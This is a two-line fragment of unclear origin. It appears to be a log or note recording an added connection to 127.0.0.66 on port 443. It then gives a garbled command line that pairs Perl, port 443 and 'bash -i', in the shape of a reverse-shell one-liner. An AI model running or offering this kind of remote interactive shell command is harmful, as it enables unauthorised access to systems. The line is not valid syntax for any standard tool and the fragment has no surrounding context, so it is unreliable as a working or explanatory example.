#= added connections remote_address=127.0.0.66 ; remote_port=443
talk /usr/bin/perl 443 'bash -i'
